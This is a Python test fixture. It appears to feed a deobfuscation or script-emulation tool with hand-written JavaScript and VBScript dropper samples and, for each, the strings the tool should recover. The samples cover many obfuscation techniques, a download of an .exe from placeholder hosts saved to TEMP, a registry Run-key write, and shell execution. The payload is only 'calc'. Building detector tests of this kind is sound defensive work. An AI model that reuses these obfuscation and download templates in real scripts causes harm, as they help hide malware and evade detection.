"""Obfuscation techniques of droppers in JavaScript and VBScript, one case each: benign, and what they come to.

Every script is written by hand after the technique's public description; addresses are reserved names.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Final

RUN: Final = "cmd /c calc"
URL: Final = "http://one.example/a.exe"
HEX: Final = RUN.encode().hex()
B64: Final = base64.b64encode(RUN.encode()).decode()
SHELL: Final = 'var w=new ActiveXObject("WScript.Shell");'


@dataclass(frozen=True)
class Case:
    """A technique: texts wanted as arguments of effects, and texts that must be seen."""

    name: str
    code: str
    wanted: tuple[str, ...] = (RUN,)
    said: tuple[str, ...] = ()


def codes(text: str, key: int = 0, plus: int = 0) -> str:
    """Character codes, separated by commas."""
    return ",".join(str((ord(one) ^ key) + plus) for one in text)


def escaped(text: str) -> str:
    """``%63%6d…``."""
    return "".join(f"%{ord(one):02x}" for one in text)


JAVASCRIPT: Final = (
    Case("plain", f'new ActiveXObject("WScript.Shell").Run("{RUN}",0,false);'),
    Case("concatenation", f'var a="WScr"+"ipt.S"+"hell";new ActiveXObject(a)["R"+"un"]("cmd"+" /c "+"calc");'),
    Case("escapes", 'var w=new ActiveXObject("\\x57\\x53cript.\\u0053hell");w["\\x52un"]("cmd \\57c\\x20calc");'),
    Case("character-codes", SHELL + f"w.Run(String.fromCharCode({codes(RUN)}));"),
    Case("character-codes-applied", SHELL + f"w.Run(String.fromCharCode.apply(null,[{codes(RUN)}]));"),
    Case("unescape", SHELL + f'w.Run(unescape("{escaped(RUN)}"));'),
    Case("unescape-wide", SHELL + 'w.Run(unescape("' + "".join(f"%u{ord(one):04X}" for one in RUN) + '"));'),
    Case("decode-uri", SHELL + f'w.Run(decodeURIComponent("{escaped(RUN)}"));'),
    Case("reversed", SHELL + f'w.Run("{RUN[::-1]}".split("").reverse().join(""));'),
    Case("split-and-join", SHELL + f'w.Run("{"qZq".join(RUN)}".split("qZq").join(""));'),
    Case("replaced-by-expression", SHELL + f'w.Run("{"9".join(RUN)}".replace(/[0-9]/g,""));'),
    Case("replaced-by-function", SHELL + f'w.Run("{HEX}".replace(/../g,function(h){{return String.fromCharCode(parseInt(h,16))}}));'),
    Case("hexadecimal-loop", SHELL + f'var h="{HEX}",s="";for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));w.Run(s);'),
    Case("exclusive-or-loop", SHELL + f'var a=[{codes(RUN, 23)}],s="";for(var i=0;i<a.length;i++){{s+=String.fromCharCode(a[i]^23);}}w.Run(s);'),
    Case("exclusive-or-with-a-word", SHELL + 'var k="key",a=[' + ",".join(str(ord(one) ^ ord("key"[at % 3])) for at, one in enumerate(RUN)) + '],s="";for(var i in a){s+=String.fromCharCode(a[i]^k.charCodeAt(i%k.length))}w.Run(s);'),
    Case("every-second-letter", SHELL + f'var t="{"".join(one + "x" for one in RUN)}",s="";for(var i=0;i<t.length;i+=2)s+=t.charAt(i);w.Run(s);'),
    Case("base64-atob", SHELL + f'w.Run(atob("{B64}"));'),
    Case("base64-by-hand", SHELL + 'function d(t){var k="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",o="",b=0,n=0;for(var i=0;i<t.length;i++){var c=k.indexOf(t.charAt(i));if(c<0)break;b=(b<<6)|c;n+=6;if(n>=8){n-=8;o+=String.fromCharCode((b>>n)&255)}}return o}' + f'w.Run(d("{B64}"));'),
    Case("base64-by-msxml", f'var e=new ActiveXObject("MSXML2.DOMDocument").createElement("b");e.dataType="bin.base64";e.text="{B64}";var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(e.nodeTypedValue);s.Position=0;s.Type=2;s.CharSet="us-ascii";' + SHELL + "w.Run(s.ReadText());"),
    Case("eval", f"""eval('new Active'+'XObject("WScript.Shell").Run("{RUN}")');"""),
    Case("eval-by-another-name", f"""var z=this["ev"+"al"];z('new ActiveXObject("WScript.Shell").Run("{RUN}")');"""),
    Case("eval-in-eval", f"""eval(unescape("{escaped("eval('new ActiveXObject(" + chr(34) + "WScript.Shell" + chr(34) + ").Run(" + chr(34) + RUN + chr(34) + ")')")}"));"""),
    Case("function-constructor", f"""new Function("a","b",'new ActiveXObject(a).Run(b)')("WScript.Shell","{RUN}");"""),
    Case("constructor-of-a-method", f"""[]["filter"]["constructor"]('new ActiveXObject("WScript.Shell").Run("{RUN}")')();"""),
    Case("array-rotation", f"""var _0x1=['{RUN}','Run','WScript.Shell'];(function(a,n){{var f=function(x){{while(--x){{a['push'](a['shift']());}}}};f(++n);}}(_0x1,0x1));var _0x2=function(i){{i=i-0x0;return _0x1[i];}};new ActiveXObject(_0x2('0x1'))[_0x2('0x0')](_0x2('0x2'));"""),
    Case("array-rotation-by-checksum", f"""function _a(){{var t=['7q','{RUN}','Run','WScript.Shell','12z'];_a=function(){{return t}};return _a()}}function _b(i){{return _a()[i-100]}}(function(f,s){{var a=f();while(true){{try{{if(parseInt(_b(100))/1+parseInt(_b(101))*2===s)break;else a.push(a.shift())}}catch(e){{a.push(a.shift())}}}}}})(_a,26);var q=[_b(102),_b(103),_b(104)];new ActiveXObject(q[2])[q[1]](q[0]);""", (RUN,)),
    Case("switch-machine", SHELL + """var o="2|0|1".split("|"),i=0,s;while(true){switch(o[i++]){case"0":s+=" /c";continue;case"1":s+=" calc";continue;case"2":s="cmd";continue}break}w.Run(s);"""),
    Case("packer", """eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1("2.3").4("5 /6 7")',8,8,'new|ActiveXObject|WScript|Shell|Run|cmd|c|calc'.split('|'),0,{}))"""),
    Case("coercions", SHELL + """var f=(![]+[]),u=([][[]]+[]),t=(!![]+[]);var c=([]["filter"]+[])[3];w.Run(c+"m"+u[2]+" /"+c+" "+c+f[1]+f[2]+c);""", (RUN,)),
    Case("getters-in-an-object", """var o={a:"WScript",b:function(){return this.a+".Shell"},"c d":"Run"};new ActiveXObject(o.b())[o["c d"]](["cmd","/c","calc"].join(" "));"""),
    Case("dead-condition", SHELL + f"""if(1>2){{w.Run("no")}}else{{w.Run("{RUN}")}}"""),
    Case("unknown-condition", SHELL + f"""if(new Date().getDay()==3){{WScript.Quit()}}w.Run("{RUN}");"""),
    Case("exception", SHELL + f"""try{{undefinedFunction.x.y();null.z()}}catch(e){{w.Run("{RUN}")}}"""),
    Case("time-out", SHELL + f"""setTimeout(function(){{w.Run("{RUN}")}},9000);"""),
    Case("map-and-arrow", SHELL + f"""w.Run([{codes(RUN, 0, 5)}].map(c=>String.fromCharCode(c-5)).join``);""".replace("join``", 'join("")')),
    Case("template", SHELL + """const c="calc";w.Run(`cmd /${"c"} ${c}`);"""),
    Case("sorted", SHELL + "var a=[" + ",".join(f'[{at},"{one}"]' for at, one in reversed(list(enumerate(RUN)))) + "];a.sort(function(x,y){return x[0]-y[0]});var s='';for(var i=0;i<a.length;i++)s+=a[i][1];w.Run(s);"),
    Case("number-bases", SHELL + f"""w.Run([{",".join(repr(f'{ord(one):o}') for one in RUN)}].map(function(o){{return String.fromCharCode(parseInt(o,8))}}).join(""));"""),
    Case("prototype", """String.prototype.zq=function(){return this.split("").reverse().join("")};new ActiveXObject("llehS.tpircSW".zq()).Run("clac c/ dmc".zq());"""),
    Case("wmi", f"""GetObject("winmgmts:\\\\\\\\.\\\\root\\\\cimv2").Get("Win32_Process").Create("{RUN}",null,null,0);"""),
    Case("download", f"""var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","{URL}",false);x.send();if(x.status==200){{var s=WScript.CreateObject("ADODB.Stream");s.Open();s.Type=1;s.Write(x.ResponseBody);s.Position=0;s.SaveToFile(new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%")+"\\\\a.exe",2)}}""", (URL, "C:\\Users\\‹USERNAME›\\AppData\\Local\\Temp\\a.exe")),
    Case("list-of-addresses", """var u="one.example/a,two.example/b".split(",");for(var i=0;i<u.length;i++){try{var x=new ActiveXObject("WinHttp.WinHttpRequest.5.1");x.Open("GET","http://"+u[i],0);x.Send();if(x.Status!=200)continue}catch(e){}}""", ("http://one.example/a", "http://two.example/b")),
    Case("file-and-shell-execute", """var f=new ActiveXObject("Scripting.FileSystemObject").CreateTextFile("C:\\\\a.bat",true);f.WriteLine("start calc");f.Close();new ActiveXObject("Shell.Application").ShellExecute("C:\\\\a.bat","","","open",0);""", ("C:\\a.bat", "start calc")),
    Case("registry", """new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u","C:\\\\a.js");""", ("u", "C:\\a.js")),
    Case("location", f"""window.location.href=["http:","","one.example","a.exe"].join("/");""", (URL,)),
    Case("node", """require("child_process").exec("cmd"+" /c calc");"""),
    Case("uncalled-function", SHELL + f"""w.Run("{RUN}");function never(){{var u="http://"+"two.example"+"/b";return u}}""", said=("http://two.example/b",)),
    Case("conditional-compilation", f"""/*@cc_on\n@if(@_jscript)\nnew ActiveXObject("WScript.Shell").Run("{RUN}");\n@end\n@*/"""),
    Case("broken-syntax-around", f"""var a = = 3;\n)))\nnew ActiveXObject("WScript.Shell").Run("{RUN}");\nvar b = {{;"""),
)  # fmt: skip

_RUNNER: Final = 'Set w = CreateObject("WScript.Shell")\n'
VBSCRIPT: Final = (
    Case("plain", f'CreateObject("WScript.Shell").Run "{RUN}", 0, False'),
    Case("concatenation", 'Set w = CreateObject("WScr" & "ipt.Sh" & "ell")\nw.Run "cmd" & " /c " + "calc"'),
    Case("execute", f'Execute "CreateObject(""WScript.Shell"").Run ""{RUN}"""'),
    Case("execute-uses-variables", _RUNNER + f'a = "{RUN}"\nExecute("w.R" & "un a")'),
    Case("execute-defines", f'Execute("Function f(x)" & vbCrLf & "f = StrReverse(x)" & vbCrLf & "End Function")\nCreateObject("WScript.Shell").Run f("{RUN[::-1]}")'),
    Case("execute-global", f'Sub s\nExecuteGlobal "b = ""{RUN}"""\nEnd Sub\ns\nCreateObject("WScript.Shell").Run b'),
    Case("execute-in-execute", 'Execute "Execute ""CreateObject(""""WScript.Shell"""").Run """"cmd /c calc"""""""'),
    Case("execute-of-codes", 'For Each c In Split("' + codes(f'CreateObject("WScript.Shell").Run "{RUN}"').replace(",", "*") + '","*")\ns = s & Chr(c)\nNext\nExecute s'),
    Case("eval", _RUNNER + 'w.Run Eval("""cmd"" & "" /c "" & ""calc""")'),
    Case("globals-seen-by-procedures", f'k = 3\nd = "{"".join(chr(ord(one) + 3) for one in RUN)}"\nSub go\nFor i = 1 To Len(d)\nr = r & Chr(Asc(Mid(d, i, 1)) - k)\nNext\nCreateObject("WScript.Shell").Run r\nEnd Sub\ngo'),
    Case("hexadecimal", f'h = "{HEX}"\nFor i = 1 To Len(h) Step 2\ns = s & Chr("&H" & Mid(h, i, 2))\nNext\nCreateObject("WScript.Shell").Run s'),
    Case("classes-by-colon", f'Dim a : a = Array("WScript", "Shell") : Set w = CreateObject(Join(a, ".")) : w.Run "{RUN}"'),
    Case("moniker", f'GetObject("winmgmts:{{impersonationLevel=impersonate}}!\\\\.\\root\\cimv2:Win32_Process").Create "{RUN}", Null, Null, p'),
    Case("download", f'Set x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET", "{URL}", False\nx.Send\nWith CreateObject("Adodb.Stream")\n.Type = 1\n.Open\n.Write x.responseBody\n.SaveToFile "C:\\a.exe", 2\nEnd With', (URL, "C:\\a.exe")),
)  # fmt: skip
